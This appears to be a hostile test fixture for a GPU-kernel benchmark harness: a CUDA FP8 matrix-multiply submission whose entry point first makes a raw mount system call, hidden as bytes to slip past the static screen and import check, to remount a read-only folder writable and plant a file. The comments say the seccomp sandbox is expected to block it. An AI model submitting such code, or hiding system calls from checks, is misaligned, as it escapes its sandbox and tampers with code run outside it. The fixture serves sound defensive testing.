// expect: runtime_error
// unscreened: runtime_error
// Plays a sandbox escape as root (issue 51): on every call its host code remounts a folder it sees read-only as
// writable (mount(2) with MS_REMOUNT|MS_BIND, no MS_RDONLY) and writes a file into it: the host's /usr/local, or
// through the same bind the project's ksci/ package, which later runs outside any sandbox.
// Caught by: the sandbox, not the static checks (the call is written as bytes, `.byte 0x0f, 0x05`, so the screen
// and the library check pass it). The harness child has dropped its capabilities and installed its seccomp filter
// before loading the library (ksci/evaluate/sandbox/confine.py): the call raises SIGSYS, the child reports it and exits,
// and the verdict is `runtime_error: crashed: denied system call mount`. Were the call let through, the GEMM is
// honest and the verdict would be `ok`, with the file TARGET/ksci-sandbox-remount left on the host:
// benchmarks/sandbox_hostile.py looks for it.
#include <cstdint>
#include <cuda_bf16.h>
#include <cuda_fp8.h>
#include <cuda_runtime.h>

// The folder the attack writes into: one the harness child sees read-only (benchmarks/sandbox_hostile.py puts a
// throwaway folder of its own in its place).
#define TARGET "/usr/local"

// A system call made with the instruction written as bytes: the static screen (which looks for the mnemonic) and
// the library check (which looks at imported symbols) see nothing. x86_64 numbering; elsewhere the call fails.
static long raw_syscall(long n, long a, long b, long c, long d, long e) {
#if defined(__x86_64__)
    long ret;
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    __asm__ volatile(".byte 0x0f, 0x05"
                     : "=a"(ret)
                     : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
                     : "rcx", "r11", "memory");
    return ret;
#else
    return -38;
#endif
}

static long raw_write_file(const char* path) {
    const long fd = raw_syscall(257 /* openat */, -100 /* AT_FDCWD */, (long)path, 01101 /* O_WRONLY|O_CREAT|O_TRUNC */,
                                0644, 0);
    if (fd < 0) return fd;
    raw_syscall(1 /* write */, fd, (long)"written from inside the sandbox\n", 32, 0, 0);
    raw_syscall(3 /* close */, fd, 0, 0, 0, 0);
    return 0;
}

// The honest part: one thread per element of C (as the naive seed), run after the attack.
__global__ void gemm_naive(const __nv_fp8_e4m3* a, const __nv_fp8_e4m3* b, const float* a_scale,
                           const float* b_scale, __nv_bfloat16* c, int m, int n, int k) {
    const int col = blockIdx.x * blockDim.x + threadIdx.x;
    const int row = blockIdx.y * blockDim.y + threadIdx.y;
    if (row >= m || col >= n) return;
    const int scale_cols = (n + 127) / 128;
    float acc = 0.0f;
    for (int kb = 0; kb < k / 128; ++kb) {
        float part = 0.0f;
        for (int kk = kb * 128; kk < kb * 128 + 128; ++kk)
            part += static_cast<float>(a[row + (size_t)kk * m]) * static_cast<float>(b[col + (size_t)kk * n]);
        acc += part * a_scale[row + (size_t)kb * m] * b_scale[col / 128 + (size_t)kb * scale_cols];
    }
    c[(size_t)row * n + col] = __float2bfloat16_rn(acc);
}

static void attack() {
    raw_syscall(165 /* mount */, 0, (long)TARGET, 0, 32 | 4096 /* MS_REMOUNT | MS_BIND */, 0);
    raw_write_file(TARGET "/ksci-sandbox-remount");
}

extern "C" int fp8_gemm(const void* a, const void* b, const float* a_scale, const float* b_scale, void* c, int m,
                        int n, int k, void* stream) {
    attack();
    const dim3 block(32, 8);
    const dim3 grid((n + 31) / 32, (m + 7) / 8);
    gemm_naive<<<grid, block, 0, static_cast<cudaStream_t>(stream)>>>(
        static_cast<const __nv_fp8_e4m3*>(a), static_cast<const __nv_fp8_e4m3*>(b), a_scale, b_scale,
        static_cast<__nv_bfloat16*>(c), m, n, k);
    return (int)cudaGetLastError();
}
